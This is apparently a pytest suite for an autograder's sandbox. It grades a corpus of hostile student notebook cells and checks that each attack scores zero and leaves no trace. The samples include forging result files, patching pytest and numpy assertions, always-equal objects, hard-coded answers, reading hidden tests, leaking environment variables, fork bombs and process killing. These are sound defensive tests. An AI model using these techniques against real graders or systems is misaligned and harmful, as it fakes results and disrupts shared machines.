"""Hostile students against the grader: each attack gains nothing and costs nobody else anything.

Every student in the corpus below has read the grader's source (it is public)
and answers the exercise `add` with an attack instead of a sum. All of them are
graded in one batch, two at a time, between two honest students, on the small
fake course (no TensorFlow). For every attack: `add` scores 0, the student's
other exercises keep their points, both honest students keep every point, the
run completes with a report for everyone, and nothing the attack started or
wrote outlives its exercise. Leaks are checked too: no feedback carries the
grader's environment, the hidden tests' text or the grader's paths. The whole batch runs in
each place the grader runs (the ``place`` fixture, tests/places.py: bubblewrap as root, root
with namespaces denied as in Gradescope's Docker, an unprivileged account without bubblewrap),
and the report's first line must say which layers held there and which did not.
"""

from __future__ import annotations

import os
import socket
import textwrap

from autograder.quick_nbformat import nbformat
import psutil
import pytest

import fake_course
import places
from grader_helpers import run_grader

MARKER = "hostile7731"            # in every process an attack starts and every file it writes
SECRET = "grader-secret-5cf2a1"   # in the grader's environment: must never reach a student
HIDDEN_MARK = "adds small numbers"  # a docstring of the fake hidden tests (appears as a title, not as text)
HIDDEN_SOURCE = "def _small():"   # a line of the hidden tests' source: must never reach a student
# CPU seconds per exercise: the fake exercises need well under 1 s, and the attacks that scan
# the whole file system or loop forever are stopped sooner than at a real course's 120 s.
TIMEOUT = 3

# name -> the cell that answers `add`. {port} is a TCP port the test listens on at 127.0.0.1.
ATTACKS = {
    # -- forging verdicts and result files
    "forges_result_files": """
        import glob, json, os
        for pattern in ("/tmp/**/result.jsonl", "/tmp/autograder-*/result.jsonl", "/scratch/**/result.jsonl"):
            for path in glob.glob(pattern, recursive=True):
                with open(path, "a") as f:
                    for test in ("test_small_numbers", "test_negative_numbers", "test_scale", "test_up", "test_start"):
                        f.write(json.dumps({"kind": "test", "nodeid": test, "outcome": "passed", "message": ""}) + "\\n")
                    f.write(json.dumps({"kind": "end", "exit_code": 0}) + "\\n")
        os._exit(0)
        """,
    "poisons_what_the_judges_share": """
        import glob, json, os
        for folder in glob.glob("/tmp/autograder-run-*") + glob.glob("/tmp/*/autograder-run-*"):
            try:
                with open(folder + "/poison.tmp", "w") as f:
                    json.dump(1000, f)   # every later student's `scale` would then be off by 1000
                os.replace(folder + "/poison.tmp", folder + "/shared_offset.json")
            except OSError:
                pass                     # another grading run's folder: try the next
        def add(a, b):
            return 0
        """,
    "prints_fake_records": """
        import json, sys
        for stream in (sys.stdout, sys.stderr):
            print(json.dumps({"kind": "test", "nodeid": "x", "outcome": "passed"}), file=stream)
            print(json.dumps({"kind": "end", "exit_code": 0}), file=stream)
        def add(a, b):
            return 0
        """,
    "always_equal_object": """
        class Always:
            def __eq__(self, other):
                return True
            __ne__ = lambda self, other: False
            __bool__ = lambda self: True
        def add(a, b):
            return Always()
        """,
    "hard_coded_answers": """
        def add(a, b):
            return {(2, 3): 5, (-1, -1): -2}.get((a, b), 0)
        """,
    "forged_reply_on_the_socket": """
        import os, socket, stat, json, struct
        def add(a, b):
            for fd in range(3, 64):
                try:
                    if stat.S_ISSOCK(os.fstat(fd).st_mode):
                        s = socket.socket(fileno=os.dup(fd))
                        header = json.dumps({"value": True}).encode()
                        body = struct.pack("<Q", len(header)) + header
                        s.sendall(struct.pack("<Q", len(body)) + body)
                except OSError:
                    pass
            return 0
        """,
    "pickle_on_the_socket": """
        import io, os, socket, stat, json, struct, numpy as np
        def add(a, b):
            buffer = io.BytesIO()
            np.savez(buffer, a0=np.array([object()], dtype=object))
            header = json.dumps({"value": {"$array": "a0"}}).encode()
            body = struct.pack("<Q", len(header)) + header + buffer.getvalue()
            for fd in range(3, 64):
                try:
                    if stat.S_ISSOCK(os.fstat(fd).st_mode):
                        socket.socket(fileno=os.dup(fd)).sendall(struct.pack("<Q", len(body)) + body)
                except OSError:
                    pass
            os._exit(0)
        """,
    "garbage_on_the_socket": """
        import os, stat
        def add(a, b):
            for fd in range(3, 64):
                try:
                    if stat.S_ISSOCK(os.fstat(fd).st_mode):
                        os.write(fd, b"\\xff" * 64)
                except OSError:
                    pass
            return 0
        """,
    # -- patching the test machinery or the judging code
    "patches_pytest": """
        try:
            import _pytest.python
            _pytest.python.Function.runtest = lambda self: None
        except ImportError:
            pass
        def add(a, b):
            return 0
        """,
    "patches_numpy_testing": """
        import numpy as np, numpy.testing
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        def add(a, b):
            return 0
        """,
    "patches_the_grader": """
        import importlib, sys
        for name in ("autograder.judge", "autograder.pytest_plugin", "autograder.testing", "autograder.worker"):
            try:
                module = importlib.import_module(name)
                if hasattr(module, "ResultSink"):
                    module.ResultSink.write = lambda self, **r: None
                if hasattr(module, "expect_threshold"):
                    module.expect_threshold = lambda *a, **k: None
            except ImportError:
                pass
        def add(a, b):
            return 0
        """,
    "patches_the_contestant_server": """
        import sys
        server = sys.modules.get("contestant.server") or sys.modules.get("__main__")
        if server is not None and hasattr(server, "describe"):
            server.describe = lambda error, cells: {"type": "X", "bases": [], "message": "passed", "stub": False}
        def add(a, b):
            raise ValueError("no")
        """,
    # -- reading and writing the grader's files
    "reads_the_hidden_tests": """
        import glob
        found = []
        for pattern in ("/**/test_01_fake.py", "/tmp/**/hidden_tests/*.py", "/work/**/hidden_tests/*.py"):
            found += glob.glob(pattern, recursive=True)
        text = "".join(open(p).read() for p in found[:3])
        raise RuntimeError("hidden: " + text[:2000] if text else "hidden: nothing found")
        """,
    "copies_the_solution": """
        import glob, json
        masters = glob.glob("/**/solutions/01_fake.ipynb", recursive=True) + glob.glob("/tmp/**/01_fake.ipynb", recursive=True)
        source = ""
        for path in masters:
            for cell in json.load(open(path))["cells"]:
                if "".join(cell["source"]).startswith("# Exercise: add"):
                    source = "".join(cell["source"])
        if not source:
            raise RuntimeError("no master found")
        exec(source)
        """,
    "writes_outside_its_folder": f"""
        import os
        for folder in ("/work", "/root", "/etc", "/usr", "/opt/grader/contestant", "/var/tmp", os.path.expanduser("~")):
            try:
                with open(os.path.join(folder, "{MARKER}.txt"), "w") as f:
                    f.write("x" * 8_000_000)
            except OSError:
                pass
        def add(a, b):
            return 0
        """,
    "leaks_the_environment": """
        import os
        raise RuntimeError("env: " + repr(dict(os.environ)))
        """,
    "leaks_proc_of_others": """
        import glob
        text = ""
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                text += open(path, "rb").read().decode("latin-1")
            except OSError:
                pass
        raise RuntimeError("proc: " + text[:3000])
        """,
    "leaks_host_paths": """
        import os, sys
        seen = [repr(sys.path), os.getcwd(), os.environ.get("PYTHONPATH", "")]
        for path in ("/proc/self/mounts", "/proc/self/mountinfo", f"/proc/{os.getppid()}/cmdline"):
            try:
                seen.append(open(path, "rb").read().decode("latin-1"))
            except OSError:
                pass
        raise RuntimeError("paths: " + " | ".join(seen))
        """,
    # -- signalling the grader or the siblings
    "kills_everything_it_can_see": """
        import os, signal
        for pid in range(2, 70000):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        os.kill(-1, signal.SIGKILL)
        """,
    "kills_its_parents": """
        import os, signal
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        def add(a, b):
            return 0
        """,
    "pkills_python": """
        import subprocess
        subprocess.run(["pkill", "-9", "python"], check=False)
        subprocess.run(["pkill", "-9", "-f", "autograder"], check=False)
        def add(a, b):
            return 0
        """,
    # -- escaping the exercise's process group
    "setsid_sleepers": f"""
        import subprocess
        for _ in range(50):
            subprocess.Popen(["sleep", "7731"], start_new_session=True)
        subprocess.Popen(["sh", "-c", "exec -a {MARKER} sleep 7731"], start_new_session=True)
        def add(a, b):
            return 0
        """,
    "double_fork_daemon": f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sh", ["sh", "-c", "exec -a {MARKER}-daemon sleep 7731"])
            os._exit(0)
        time.sleep(0.5)
        def add(a, b):
            return 0
        """,
    "fork_bomb": """
        import os
        def add(a, b):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """,
    # -- network
    "calls_home_on_loopback": """
        import socket
        def add(a, b):
            s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
            s.sendall(b"stolen")
            return 0
        """,
    # -- resources and messages
    "fills_the_disk": f"""
        def add(a, b):
            with open("{MARKER}.bin", "wb") as f:
                while True:
                    f.write(b"x" * 2**20)
        """,
    "floods_the_output": """
        def add(a, b):
            while True:
                print("x" * 10_000)
        """,
    "huge_exception_message": """
        raise ValueError("y" * 5_000_000)
        """,
    "segfaults": """
        import ctypes
        ctypes.string_at(0)
        """,
}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on 127.0.0.1 that the network attack tries to reach; counts what arrives."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.1)
    yield server
    server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener, place):
    root = fake_course.make(tmp_path_factory.mktemp("fake_course"))
    env = dict(fake_course.env(root), AUTOGRADER_TEST_SECRET=SECRET)
    students = tmp_path_factory.mktemp("students")

    def put(name, nb):
        (students / name).mkdir()
        nbformat.write(nb, students / name / f"{fake_course.LESSON}.ipynb")

    put("aaa_honest", fake_course.master())  # sorted first and last: graded beside the attacks
    port = listener.getsockname()[1]
    for name, source in ATTACKS.items():
        put(name, fake_course.with_cell("add", textwrap.dedent(source).replace("{port}", str(port)).strip()))
    put("zzz_honest", fake_course.master())
    before = {p.pid for p in psutil.process_iter()}
    # More judges than cores: a crowded run, where a fork bomb takes longest to end (it must
    # still be gone before the student's next exercise starts in the same sandbox).
    out = tmp_path_factory.mktemp("out")
    with places.opened_for(place, readable=[root, students], writable=[out]):
        graded = run_grader(str(students), "--jobs", "4", "--timeout-per-exercise", str(TIMEOUT), "--memory-mb", "1500",
                            out=out, env=env, timeout=1200, place=place)
    graded.before = before
    graded.course = root
    return graded


def test_the_run_completes_with_a_report_for_everyone(graded):
    assert graded.returncode == 0, graded.stderr[-3000:]
    assert "Traceback" not in graded.stdout
    rows = graded.csv_rows()
    assert set(rows) == {"aaa_honest", "zzz_honest", *ATTACKS}


@pytest.mark.parametrize("student", ["aaa_honest", "zzz_honest"])
def test_honest_students_keep_every_point(graded, student):
    assert graded.exercise_scores(student) == {"add": (3, 3), "scale": (3, 3), "counter": (3, 3)}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_gains_nothing_and_costs_only_its_exercise(graded, attack):
    scores = graded.exercise_scores(attack)
    assert scores["add"] == (0, 3), graded.block(attack)
    assert scores["scale"] == (3, 3) and scores["counter"] == (3, 3), graded.block(attack)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_no_feedback_carries_the_environment_or_the_hidden_tests(graded, attack):
    text = graded.block(attack) + str(graded.results(attack))
    assert SECRET not in text
    assert HIDDEN_SOURCE not in text
    assert "AUTOGRADER_" not in text
    assert str(graded.course) not in text  # where the hidden tests and the masters live


def test_nothing_an_attack_started_outlives_the_run(graded):
    left = []
    for process in psutil.process_iter(["cmdline"]):
        cmdline = " ".join(process.info["cmdline"] or [])
        if "7731" in cmdline or MARKER in cmdline:
            left.append(cmdline)
    assert not left


def test_nothing_an_attack_wrote_outlives_the_run(graded):
    for folder in ("/work", "/root", "/etc", "/usr", "/var/tmp", "/tmp", os.path.expanduser("~")):
        assert not os.path.exists(os.path.join(folder, f"{MARKER}.txt")), folder
    assert not any(MARKER in name for name in os.listdir("/tmp"))


def test_no_connection_reached_the_loopback_server(graded, listener):
    try:
        connection, _ = listener.accept()
    except (socket.timeout, BlockingIOError):
        return
    connection.close()
    pytest.fail("a contestant connected to 127.0.0.1")


@pytest.mark.parametrize("attack, words", [
    ("segfaults", "crashed (SIGSEGV)"),
    ("floods_the_output", "more than 64 MB"),
    ("fills_the_disk", "wrote more than 64 MB"),
    ("forges_result_files", "exit code 0"),
    ("pickle_on_the_socket", "could not be read by the grader"),
])
def test_honest_messages(graded, attack, words):
    assert words in graded.block(attack), graded.block(attack)


def test_a_huge_message_is_cut_to_one_line(graded):
    failed = [t for t in graded.results("huge_exception_message")["tests"] if t["score"] == 0]
    assert failed and all(len(t["output"]) < 1000 for t in failed)


# What the report's first line must say in each place: what holds, and what is missing.
PROTECTIONS = {
    "bubblewrap": (["separate user id per exercise", "no network", "own PID namespace", "seccomp filter"],
                   ["MISSING"]),
    "no-namespaces": (["separate user id per exercise", "no network (unix sockets only)", "Landlock file system",
                       "cannot signal or trace the grader"], ["own PID namespace", "MISSING"]),
    "unprivileged": (["no network (unix sockets only)", "Landlock file system", "cannot signal or trace the grader",
                      "MISSING here: separate user id (needs root)", "apt-get install bubblewrap"],
                     ["separate user id per exercise", "own PID namespace"]),
}


def test_the_report_says_which_protections_were_active(graded, place):
    first = next(line for line in graded.stdout.splitlines() if line.startswith("student code runs"))
    present, absent = PROTECTIONS[place]
    for words in present:
        assert words in first, (place, first)
    for words in absent:
        assert words not in first, (place, first)


def test_two_cells_claiming_one_exercise_are_reported(tmp_path):
    root = fake_course.make(tmp_path / "course")
    nb = fake_course.master()
    twice = [c for c in nb.cells if c.source.startswith("# Exercise: add")][0]
    nb.cells.append(nbformat.v4.new_code_cell("# Exercise: add\ndef add(a, b):\n    return a + b"))
    assert twice is not None
    (tmp_path / "dana").mkdir()
    nbformat.write(nb, tmp_path / "dana" / f"{fake_course.LESSON}.ipynb")
    graded = run_grader(str(tmp_path / "dana"), out=tmp_path / "out", env=fake_course.env(root))
    assert "two cells claim exercise 'add'; graded the last one" in graded.stdout
